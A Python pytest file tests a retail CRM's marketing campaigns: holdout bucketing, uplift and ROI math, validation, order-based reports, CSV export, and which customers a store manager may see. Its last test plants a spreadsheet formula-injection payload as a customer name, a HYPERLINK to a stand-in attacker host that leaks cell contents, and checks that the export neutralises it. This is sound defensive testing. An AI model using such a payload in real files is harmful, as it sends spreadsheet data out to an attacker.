import csv
import datetime as dt
import io
import random

import pytest
from sqlalchemy import select

from app.care import campaigns
from app.errors import Invalid
from assistant.experiment import GroupResult, holdout_bucket, in_holdout, uplift
from models import Campaign, CampaignTarget, Customer, CustomerOptOut, Order, Role, Segment, Staff
from models.commerce import PAID_STATUSES
from tests import factories as f

UTC = dt.timezone.utc
EVERYONE = {"field": "paid_orders", "op": ">=", "value": 0}


def test_holdout_is_stable_and_about_the_asked_share():
    buckets = [holdout_bucket(7, cid) for cid in range(20000)]
    assert buckets == [holdout_bucket(7, cid) for cid in range(20000)]
    share = sum(in_holdout(7, cid, 10) for cid in range(20000)) / 20000
    assert 0.09 < share < 0.11
    assert holdout_bucket(7, 1) != holdout_bucket(8, 1)  # each campaign draws its own holdout


def test_uplift_interval_contains_zero_without_effect_and_roi_uses_increment():
    u = uplift(GroupResult(1000, 50, 500000), GroupResult(1000, 50, 500000), cost_fen=5000)
    assert u.conversion_diff == 0 and u.conversion_ci[0] < 0 < u.conversion_ci[1]
    assert u.incremental_revenue_fen == 0 and u.roi == 0 and u.raw_roi == 100
    u2 = uplift(GroupResult(1000, 80, 800000), GroupResult(100, 5, 50000), cost_fen=5000)
    assert u2.conversion_diff == pytest.approx(0.03)
    assert u2.incremental_revenue_fen == 300000 and u2.roi == 60


@pytest.fixture
def brand(db):
    rng = random.Random(3)
    with db.transaction() as s:
        store = f.store(s)
        hq = f.staff(s, username="hq", role=Role.hq)
        clerks = [f.staff(s, store=store) for _ in range(3)]
        ids = []
        for i in range(120):
            c = f.customer(s, phone=f"139{i:08d}")
            f.follow(s, c, clerks[i % 3], channel="loopback")
            f.identity(s, c, "loopback", f"lb-{c.id}")
            ids.append(c.id)
        for cid in rng.sample(ids, 10):
            s.add(CustomerOptOut(customer_id=cid, channel="loopback"))
        seg = Segment(name="全部", filter=EVERYONE)
        s.add(seg)
        s.flush()
    return {"hq": hq.id, "customers": ids, "segment": seg.id}


def _create(app, db, brand, **kw):
    data = {"name": "双11 唤醒", "segment_id": brand["segment"], "channel": "loopback",
            "content": {"text": "{{ customer_name }}，双11 老客礼已备好"}, "holdout_pct": 20,
            "unit_cost_fen": 5}
    data.update(kw)
    with app.app_context(), db.transaction() as s:
        return campaigns.create_campaign(s, s.get(Staff, brand["hq"]), data).id


@pytest.mark.parametrize("change,field", [
    ({"holdout_pct": 51}, "holdout_pct"), ({"holdout_pct": -1}, "holdout_pct"),
    ({"channel": "fax"}, "channel"), ({"segment_id": 404}, "segment_id"),
    ({"content": {"text": ""}}, "content.text"), ({"unit_cost_fen": -5}, "unit_cost_fen"),
])
def test_bad_campaigns_are_refused(app, db, brand, change, field):
    with pytest.raises(Invalid) as err:
        _create(app, db, brand, **change)
    assert field in err.value.fields


def test_campaign_on_a_channel_no_target_can_receive_is_refused(app, db, brand):
    with pytest.raises(Invalid) as err:
        _create(app, db, brand, channel="email")
    assert "channel" in err.value.fields


def test_simulated_campaign_report_reconciles_with_orders(app, db, brand):
    cid = _create(app, db, brand)
    with app.app_context():
        result = campaigns.send_campaign(cid)
        assert campaigns.send_campaign(cid) == {"sent": 0, "deferred": 0, "skipped": 0}  # already sent: nothing twice
    with db.Session() as s:
        sent_at = s.get(Campaign, cid).sent_at
        groups = dict(s.execute(select(CampaignTarget.customer_id, CampaignTarget.group)
                                .where(CampaignTarget.campaign_id == cid)).all())
    # Orders after the send: some inside the 14-day window, some outside, one refunded in part,
    # one cancelled — the report must count exactly what the database says.
    rng = random.Random(11)
    with db.transaction() as s:
        for cust in rng.sample(brand["customers"], 45):
            c = s.get(Customer, cust)
            days = rng.choice([1, 3, 13.9, 15, -1])
            status = rng.choice(["paid", "paid", "completed", "cancelled"])
            o = f.order(s, c, amount_fen=rng.randrange(1000, 90000), status=status,
                        paid_at=sent_at + dt.timedelta(days=days))
            if rng.random() < 0.2 and status != "cancelled":
                o.refund_amount_fen = o.amount_fen // 3
    with db.Session() as s:
        report = campaigns.campaign_report(s, cid, days=14)
        end = sent_at + dt.timedelta(days=14)
        expect = {"treatment": [0, 0], "holdout": [0, 0]}
        buyers = {"treatment": set(), "holdout": set()}
        for o in s.scalars(select(Order)):
            if o.status.value in PAID_STATUSES and o.paid_at and sent_at < o.paid_at <= end:
                g = groups[o.customer_id]
                buyers[g].add(o.customer_id)
                expect[g][1] += o.amount_fen - o.refund_amount_fen
    assert report["sent"] == result["sent"] and report["skipped"] == result["skipped"]
    assert result["skipped"] >= 1 and report["skipped_by_reason"][0]["reason"] == "客户已退订该渠道"
    assert report["planned"] == 120 == report["treatment"] + report["holdout"]
    assert report["buyers"] == len(buyers["treatment"]) and report["holdout_buyers"] == len(buyers["holdout"])
    assert report["revenue_fen"] == expect["treatment"][1]
    assert report["holdout_revenue_fen"] == expect["holdout"][1]
    assert report["cost_fen"] == 5 * report["sent"]
    assert report["delivered"] == report["sent"]  # loopback confirms delivery


def test_campaign_api_and_csv(client, auth, db, brand):
    auth.login("hq")
    resp = client.post("/api/v1/campaigns", json={
        "name": "试发", "segment_id": brand["segment"], "channel": "loopback", "holdout_pct": 10,
        "content": {"text": "新品到店"}})
    assert resp.status_code == 201, resp.get_json()
    body = resp.get_json()
    assert body["preview"]["would_skip"][0]["reason"] == "客户已退订该渠道"
    assert client.post(f"/api/v1/campaigns/{body['id']}/send").status_code == 202
    report = client.get(f"/api/v1/campaigns/{body['id']}/report?days=7").get_json()
    assert report["sent"] > 0 and report["cost"] == "0.00"
    csv_text = client.get(f"/api/v1/campaigns/{body['id']}/report.csv").data.decode("utf-8-sig")
    assert csv_text.splitlines()[0] == "customer_external_id,customer_name,group,status,skip_reason"
    assert len(csv_text.splitlines()) == 121


def _csv_rows(client, campaign_id):
    resp = client.get(f"/api/v1/campaigns/{campaign_id}/report.csv")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(resp.data.decode("utf-8-sig"))))


def test_campaign_csv_lists_only_the_customers_a_store_manager_may_see(app, db, client, auth, brand):
    with db.transaction() as s:
        home = s.scalar(select(Staff).where(Staff.role == Role.clerk).limit(1)).store
        f.staff(s, Role.manager, home, username="manager1")
        far_store = f.store(s, name="徐汇店")
        far_clerk = f.staff(s, store=far_store)
        for i in range(5):
            c = f.customer(s, name=f"徐汇顾客{i}", phone=f"137{i:08d}")
            f.follow(s, c, far_clerk, channel="loopback")
            f.identity(s, c, "loopback", f"lb-{c.id}")
    cid = _create(app, db, brand)

    auth.login("manager1")
    rows = _csv_rows(client, cid)
    assert len(rows) == 120 and not any(r["customer_name"].startswith("徐汇顾客") for r in rows)
    auth.login("hq")
    assert sum(r["customer_name"].startswith("徐汇顾客") for r in _csv_rows(client, cid)) == 5


def test_campaign_csv_neutralises_a_customer_name_that_is_a_formula(app, db, client, auth, brand):
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领券")'
    with db.transaction() as s:
        s.get(Customer, brand["customers"][0]).name = evil
    cid = _create(app, db, brand)
    auth.login("hq")
    names = [r["customer_name"] for r in _csv_rows(client, cid)]
    assert "'" + evil in names and evil not in names
